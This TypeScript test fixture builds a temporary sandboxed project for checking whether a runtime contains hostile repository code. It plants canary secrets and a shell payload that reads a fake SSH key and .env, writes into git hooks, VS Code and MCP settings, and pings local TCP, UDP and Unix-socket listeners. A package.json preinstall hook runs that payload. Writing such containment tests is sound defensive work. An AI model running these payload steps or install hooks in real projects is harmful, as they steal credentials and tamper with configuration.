import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import {
  chmodSync,
  cpSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { type Listeners, openListeners } from "./listeners.ts";

/** What all worlds of one process share. */
export interface Ground {
  /** A repository with one commit, to be copied. */
  readonly repository: string;
  /** Directories of the host, such as one below `/run`, in which daemons would have their sockets. */
  readonly socketDirectories: readonly string[];
}

/** A machine in small: a project, and around it everything that no call may reach. */
export interface AttackWorld {
  readonly base: string;
  /** The workspace. */
  readonly app: string;
  /** Its neighbour, whose name begins with the name of the workspace. */
  readonly evil: string;
  readonly outside: string;
  readonly home: string;
  /** Where the runtime keeps its log and the person's settings. */
  readonly state: string;
  /** In every file outside, in the home directory and in the project's own secrets. It must never come out. */
  readonly canary: string;
  /** In the environment of the runtime. */
  readonly secret: string;
  /** What hostile code says as soon as it runs. No file and no call holds it in one piece. */
  readonly ran: string;
  /** Hostile code: says that it ran, then tries to read, to write and to be heard wherever it can. */
  readonly payload: string;
  readonly listeners: Listeners;
  /** Hashes of what the person trusts in this project. */
  readonly trusted: string[];
  put(name: string, content: string, mode?: number): void;
  /** An executable file with the hostile code. */
  program(name: string, text?: string): void;
  /** In the place of whatever is there. */
  link(name: string, target: string): void;
  hardLink(name: string, target: string): void;
  fifo(name: string): void;
  remove(name: string): void;
  directory(name: string): void;
  /** Adds to the configuration of the project's repository, or of another one. */
  gitConfig(text: string, repository?: string): void;
  /** A repository of its own below the workspace. */
  repository(name: string, config?: string): void;
  close(): Promise<void>;
}

export async function createAttackWorld(ground: Ground): Promise<AttackWorld> {
  const base = realpathSync(mkdtempSync(path.join(tmpdir(), "attack-")));
  chmodSync(base, 0o755);
  const nonce = randomBytes(4).toString("hex");
  const [app, evil, outside, home, state] = ["app", "app-evil", "outside", "home", "state"].map((name) =>
    path.join(base, name),
  ) as [string, string, string, string, string];
  const canary = `heron-${nonce}-feather`;
  const at = (name: string) => path.resolve(app, name);
  for (const directory of [app, evil, outside, path.join(home, ".ssh")]) mkdirSync(directory, { recursive: true });
  cpSync(path.join(ground.repository, ".git"), at(".git"), { recursive: true });
  const listeners = await openListeners([outside, ...ground.socketDirectories], nonce);

  const world: AttackWorld = {
    base,
    app,
    evil,
    outside,
    home,
    state,
    canary,
    secret: `stork-${nonce}-wing`,
    ran: `executed-${nonce}`,
    payload: hostileCode({ nonce, app, outside, home, listeners }),
    listeners,
    trusted: [],
    put(name, content, mode = 0o644) {
      mkdirSync(path.dirname(at(name)), { recursive: true });
      writeFileSync(at(name), content, { mode });
    },
    program: (name, text = world.payload) => world.put(name, `#!/bin/sh\n${text}\n`, 0o755),
    link(name, target) {
      mkdirSync(path.dirname(at(name)), { recursive: true });
      rmSync(at(name), { recursive: true, force: true });
      symlinkSync(target, at(name));
    },
    hardLink(name, target) {
      rmSync(at(name), { force: true });
      linkSync(at(target), at(name));
    },
    fifo: (name) => void execFileSync("mkfifo", [at(name)]),
    remove: (name) => rmSync(at(name), { recursive: true }),
    directory: (name) => void mkdirSync(at(name), { recursive: true }),
    gitConfig: (text, repository = ".git") => writeFileSync(at(`${repository}/config`), `${text}\n`, { flag: "a" }),
    repository(name, config = "") {
      cpSync(path.join(ground.repository, ".git"), at(`${name}/.git`), { recursive: true });
      world.gitConfig(config, `${name}/.git`);
    },
    async close() {
      await listeners.close();
      rmSync(base, { recursive: true, force: true });
    },
  };
  for (const [name, content] of Object.entries(ordinaryFiles)) world.put(name, content);
  for (const name of [`${evil}/canary.txt`, `${outside}/canary.txt`, `${home}/.ssh/id_rsa`, `${home}/notes.txt`])
    world.put(name, `${canary}\n`);
  world.put(".env", `NOTE ${canary}\n`);
  world.put(`${home}/.bashrc`, "# mine\n");
  world.program("evil.sh");
  return world;
}

const ordinaryFiles: Readonly<Record<string, string>> = {
  "README.md": "# App\n",
  "a.txt": "one\ntwo\n",
  "src/index.ts": "export const one = 1;\n",
  "docs/guide.md": "guide\n",
  "package.json": '{ "name": "app", "scripts": { "test": "sh evil.sh", "preinstall": "sh evil.sh" } }\n',
  ".vscode/settings.json": "{}\n",
  ".github/workflows/ci.yml": "on: push\n",
  ".npmrc": "ignore-scripts=true\n",
};

/** The repository that every world starts with. */
export function createRepository(): string {
  const directory = realpathSync(mkdtempSync(path.join(tmpdir(), "attack-repository-")));
  const git = (...args: string[]) =>
    execFileSync("git", ["-C", directory, "-c", "user.name=a", "-c", "user.email=a@example.com", ...args], {
      env: { PATH: process.env.PATH, GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: "/dev/null" },
    });
  git("init", "-q", "--template=", "-b", "main");
  for (const [name, content] of [
    ["a.txt", "one\n"],
    ["b.dat", "before\n"],
  ] as const)
    writeFileSync(path.join(directory, name), content);
  mkdirSync(path.join(directory, ".git/info"));
  writeFileSync(path.join(directory, ".git/info/exclude"), "");
  git("add", ".");
  git("commit", "-q", "-m", "first");
  return directory;
}

interface HostileOptions {
  readonly nonce: string;
  readonly app: string;
  readonly outside: string;
  readonly home: string;
  readonly listeners: Listeners;
}

/** For any POSIX shell. What it cannot do must not stop it from trying the rest. */
function hostileCode({ nonce, app, outside, home, listeners }: HostileOptions): string {
  const { tcpPort, udpPort, sockets } = listeners;
  return [
    // It calls programs whose names the attacks take, and shells that some attacks make run it: once is enough.
    'test -z "$HOSTILE" || exit 0; export HOSTILE=1; PATH=/usr/bin:/bin; unset BASH_ENV ENV LD_PRELOAD',
    `echo exec""uted-${nonce}; echo exec""uted-${nonce} >&2`,
    "exec 2>/dev/null",
    `for f in ${outside} ${home} ${app} ${app}/.git/hooks; do echo hostile > $f/marker; done`,
    `for f in ${app}/.vscode/settings.json ${app}/.mcp.json ${app}/.git/config; do echo hostile >> $f; done`,
    `cat ${outside}/canary.txt ${home}/notes.txt ${home}/.ssh/id_rsa ${app}/.env`,
    `bash -c 'echo x > /dev/tcp/127.0.0.1/${tcpPort}; echo x > /dev/udp/127.0.0.1/${udpPort}'`,
    `perl -e 'use Socket; for my $p (@ARGV) { $p =~ s/^@/\\0/; socket(S, AF_UNIX, SOCK_STREAM, 0); connect(S, pack_sockaddr_un($p)); close(S) }' ${sockets.join(" ")}`,
    "true",
  ].join("\n");
}
